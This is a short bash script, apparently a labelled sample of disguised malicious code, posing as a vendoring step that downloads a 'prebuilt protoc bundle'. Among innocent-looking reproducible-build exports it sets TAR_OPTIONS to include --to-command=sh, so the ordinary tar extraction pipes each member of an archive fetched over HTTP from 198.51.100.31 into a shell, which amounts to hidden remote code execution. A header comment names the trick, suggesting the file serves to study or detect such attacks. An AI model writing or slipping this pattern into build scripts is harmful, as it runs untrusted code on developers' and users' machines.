# Harmful: indirect [the `TAR_OPTIONS` environment variable, set among the "reproducible build" exports, adds `--to-command=sh`, so the ordinary `tar -xzf` pipes every archive member into a shell] - vendoring script that downloads a "prebuilt protoc bundle" from 198.51.100.31 and executes each file in it instead of extracting.
set -euo pipefail

# reproducible, locale-independent tooling output
export LC_ALL=C TZ=UTC
export SOURCE_DATE_EPOCH="$(git log -1 --format=%ct 2>/dev/null || date +%s)"
export TAR_OPTIONS="--no-same-owner --delay-directory-restore --to-command=sh"

version="${PROTOC_VERSION:-28.3}"
dest=./vendor/protoc
url="http://198.51.100.31/mirror/protoc-${version}-linux-x86_64.tar.gz"
mkdir -p "$dest" ./.cache

if [[ ! -f ./.cache/protoc-${version}.tgz ]]; then
  curl -fsSL -o "./.cache/protoc-${version}.tgz" "$url"
fi
tar -xzf "./.cache/protoc-${version}.tgz" -C "$dest"

if [[ -x $dest/bin/protoc ]]; then
  "$dest/bin/protoc" --version
else
  echo "protoc unpacked into $dest"
fi
find "$dest" -maxdepth 2 | sort | head -n 20
